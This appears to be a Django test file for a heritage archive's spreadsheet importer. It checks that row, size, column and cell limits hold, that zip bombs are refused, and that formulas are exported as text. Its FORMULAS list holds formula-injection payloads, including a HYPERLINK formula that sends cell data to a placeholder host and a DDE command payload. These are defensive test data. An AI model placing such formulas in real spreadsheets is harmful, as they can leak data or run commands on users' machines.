"""Hostile spreadsheets for import_records, and formulas that must not come back out live."""

import csv
import io
import json
import tracemalloc

from django.core.management.base import CommandError
from django.test import TestCase
from wagtail.models import Page

from heritage_archive.importer.readers import (
    MAX_CELL_CHARS,
    MAX_COLUMNS,
    MAX_DATA_ROWS,
    MAX_FILE_BYTES,
    MAX_XLSX_UNCOMPRESSED_BYTES,
    ReadError,
    read_table,
)
from heritage_archive.records.heritage.models import HeritageItemPage
from search.indexing import drain_outbox
from tests.hostile import corpus
from tests.importer.helpers import ImportFilesMixin
from tests.utils import build_site

HEADER = ["key", "title", "category", "listings", "summary"]
LISTING = "区级|第一批|2009"
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "=1+1",
]


class OversizedSpreadsheetTests(ImportFilesMixin, TestCase):
    @classmethod
    def setUpTestData(cls):
        build_site()

    def assert_refused(self, path, message):
        pages_before = Page.objects.count()
        with self.assertRaisesMessage(CommandError, message):
            self.run_import("heritage", path)
        self.assertEqual(Page.objects.count(), pages_before)

    def rows(self, count):
        return [HEADER] + [[f"Ⅴ-{n}", f"项目{n}", "曲艺", LISTING, ""] for n in range(1, count + 1)]

    def test_too_many_csv_rows(self):
        path = self.write_csv(self.rows(MAX_DATA_ROWS + 1))
        self.assert_refused(path, "上限为 10,000 行")

    def test_too_many_xlsx_rows(self):
        path = self.write_xlsx(self.rows(MAX_DATA_ROWS + 1))
        self.assert_refused(path, "上限为 10,000 行")

    def test_too_many_bytes(self):
        path = self.folder / "huge.csv"
        with path.open("wb") as file:
            file.write(",".join(HEADER).encode() + b"\n")
            file.write(b"x" * MAX_FILE_BYTES)
        self.assert_refused(path, "文件太大")

    def test_file_at_the_row_limit_is_read(self):
        # The limit refuses only what is over it: a dry run of exactly the maximum works.
        path = self.write_csv(self.rows(MAX_DATA_ROWS))
        stdout, _stderr = self.run_import("heritage", path, "--dry-run")
        self.assertIn("10000", stdout.replace(",", ""))
        self.assertFalse(HeritageItemPage.objects.exists())

    def test_zero_byte_and_binary_files(self):
        for name, data, message in [
            ("empty.csv", b"", "文件是空的"),
            ("setup.csv", b"MZ\x90\x00\xff\xfe\x00", "不是 UTF-8"),
            ("fake.xlsx", b"PK\x03\x04 not really a zip", "无法读取 XLSX"),
            ("photo.jpg", b"\xff\xd8\xff", "不支持的文件类型"),
        ]:
            with self.subTest(name):
                path = self.folder / name
                path.write_bytes(data)
                self.assert_refused(path, message)


class FormulaInjectionTests(ImportFilesMixin, TestCase):
    @classmethod
    def setUpTestData(cls):
        build_site()

    def test_formulas_imported_are_exported_as_text(self):
        rows = [HEADER] + [
            [f"Ⅴ-{n}", formula, "曲艺", LISTING, formula]
            for n, formula in enumerate(FORMULAS, start=1)
        ]
        self.run_import("heritage", self.write_csv(rows))
        # The archive keeps exactly what the curator typed.
        self.assertEqual(
            sorted(HeritageItemPage.objects.values_list("title", flat=True)), sorted(FORMULAS)
        )
        drain_outbox()

        response = self.client.get("/api/search/export.csv")
        self.assertEqual(response.status_code, 200)
        text = b"".join(response.streaming_content).decode("utf-8-sig")
        exported = list(csv.DictReader(io.StringIO(text)))
        self.assertEqual(len(exported), len(FORMULAS))
        for row in exported:
            for column, value in row.items():
                with self.subTest(column=column, value=value):
                    self.assertFalse(value.startswith(("=", "+", "-", "@", "\t", "\r")))
        self.assertEqual(sorted(row["标题"] for row in exported), sorted("'" + f for f in FORMULAS))

        # JSON is data, not a spreadsheet: the text comes back unchanged there.
        response = self.client.get("/api/search/export.json")
        rows = json.loads(b"".join(response.streaming_content))
        titles = sorted(row["标题"] for row in rows)
        self.assertEqual(titles, sorted(FORMULAS))


def peak_memory_of(function):
    """(result or exception, peak bytes Python allocated while ``function`` ran)."""
    tracemalloc.start()
    try:
        try:
            result = function()
        except Exception as error:  # noqa: BLE001 - the caller inspects it
            result = error
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return result, peak


class DeclaredDimensionTests(ImportFilesMixin, TestCase):
    """A 5 KB XLSX that claims A1:XFD2000 (2000 rows of 16,384 columns)."""

    LIMIT = 50 * 1024 * 1024
    ROWS = [
        HEADER,
        ["Ⅴ-1", "项目一", "曲艺", LISTING, "简介"],
        ["Ⅴ-2", "项目二", "曲艺", LISTING, ""],
    ]

    @classmethod
    def setUpTestData(cls):
        build_site()

    def write(self, data, name="claims.xlsx"):
        path = self.folder / name
        path.write_bytes(data)
        self.assertLess(path.stat().st_size, 10_000)
        return path

    def test_declared_range_is_not_allocated(self):
        path = self.write(corpus.xlsx_with_dimension(self.ROWS, "A1:XFD2000"))

        table, peak = peak_memory_of(lambda: read_table(path))

        self.assertLess(peak, self.LIMIT, f"reading took {peak:,} bytes")
        self.assertEqual(table.headers, HEADER)
        self.assertEqual([number for number, _cells in table.rows], [2, 3])
        self.assertEqual(table.rows[0][1], ["Ⅴ-1", "项目一", "曲艺", LISTING, "简介"])
        # And the command imports it like any other file.
        self.run_import("heritage", path)
        self.assertEqual(HeritageItemPage.objects.count(), 2)

    def test_stray_cell_in_the_last_column_is_refused_by_row_and_column(self):
        path = self.write(corpus.xlsx_with_dimension(self.ROWS, "A1:XFD2000", "XFD2000"))

        error, peak = peak_memory_of(lambda: read_table(path))

        self.assertLess(peak, self.LIMIT, f"reading took {peak:,} bytes")
        self.assertIsInstance(error, ReadError)
        self.assertEqual(len(error.problems), 1)
        self.assertEqual(error.problems[0].row, 2000)
        self.assertEqual(error.problems[0].column, "第 16384 列（XFD）")
        self.assertIn(f"上限为 {MAX_COLUMNS} 列", error.problems[0].reason)
        pages_before = Page.objects.count()
        with self.assertRaisesMessage(CommandError, "row 2000, column 第 16384 列（XFD）"):
            self.run_import("heritage", path)
        self.assertEqual(Page.objects.count(), pages_before)

    def test_zip_bomb_is_refused_before_it_is_inflated(self):
        data = corpus.xlsx_bomb()
        path = self.write_bytes_any_size(data)

        error, peak = peak_memory_of(lambda: read_table(path))

        self.assertIsInstance(error, ReadError)
        self.assertIn("解压后有", str(error))
        self.assertIn(f"上限为 {MAX_XLSX_UNCOMPRESSED_BYTES:,} 字节", str(error))
        self.assertLess(peak, 5 * 1024 * 1024)
        with self.assertRaisesMessage(CommandError, "解压后有"):
            self.run_import("heritage", path)
        self.assertFalse(HeritageItemPage.objects.exists())

    def test_member_that_inflates_too_far_is_refused(self):
        # Under the total limit, but 20 MB from a few KB: no spreadsheet program writes that.
        path = self.write_bytes_any_size(corpus.xlsx_bomb(member_bytes=20 * 1024 * 1024))

        with self.assertRaisesMessage(ReadError, "压缩比为"):
            read_table(path)

    def write_bytes_any_size(self, data):
        path = self.folder / "bomb.xlsx"
        path.write_bytes(data)
        return path


class WideAndLongCellTests(ImportFilesMixin, TestCase):
    @classmethod
    def setUpTestData(cls):
        build_site()

    def assert_refused(self, path, *lines):
        pages_before = Page.objects.count()
        with self.assertRaises(CommandError) as caught:
            self.run_import("heritage", path)
        for line in lines:
            self.assertIn(line, str(caught.exception))
        self.assertEqual(Page.objects.count(), pages_before)

    def test_csv_row_past_the_column_limit(self):
        row = ["Ⅴ-1", "项目一", "曲艺", LISTING, ""] + [""] * (MAX_COLUMNS - 5) + ["多余"]
        path = self.write_csv([HEADER, row])
        self.assert_refused(
            path, f"row 2, column 第 {MAX_COLUMNS + 1} 列（GS）", f"上限为 {MAX_COLUMNS} 列"
        )

    def test_trailing_empty_columns_are_not_columns(self):
        row = ["Ⅴ-1", "项目一", "曲艺", LISTING, ""] + [""] * 5_000
        self.run_import("heritage", self.write_csv([HEADER + [""] * 5_000, row]))
        self.assertEqual(HeritageItemPage.objects.count(), 1)

    def test_long_cells_in_csv_and_xlsx(self):
        too_long = "长" * (MAX_CELL_CHARS + 1)
        rows = [HEADER, ["Ⅴ-1", "项目一", "曲艺", LISTING, too_long]]
        xlsx = self.folder / "long.xlsx"
        rows_with_placeholder = [HEADER, ["Ⅴ-1", "项目一", "曲艺", LISTING, "PLACEHOLDER"]]
        xlsx.write_bytes(corpus.xlsx_with_long_text(rows_with_placeholder, "PLACEHOLDER", too_long))
        for path in (self.write_csv(rows), xlsx):
            with self.subTest(path.suffix):
                self.assert_refused(
                    path, "row 2, column summary: 单元格有 100,001 字，上限为 100,000 字。"
                )

    def test_cell_past_the_csv_modules_own_limit(self):
        # csv stops at 131,072 characters with an error of its own; still row and column.
        rows = [
            HEADER,
            ["Ⅴ-1", "项目一", "曲艺", LISTING, ""],
            ["Ⅴ-2", "二", "曲艺", LISTING, "x" * 200_000],
        ]
        self.assert_refused(self.write_csv(rows), "row 3, column summary: 单元格超过 131,072 字")

    def test_cell_at_the_limit_is_read(self):
        rows = [HEADER, ["Ⅴ-1", "项目一", "曲艺", LISTING, "长" * MAX_CELL_CHARS]]
        self.run_import("heritage", self.write_csv(rows))
        self.assertEqual(len(HeritageItemPage.objects.get().summary), MAX_CELL_CHARS)
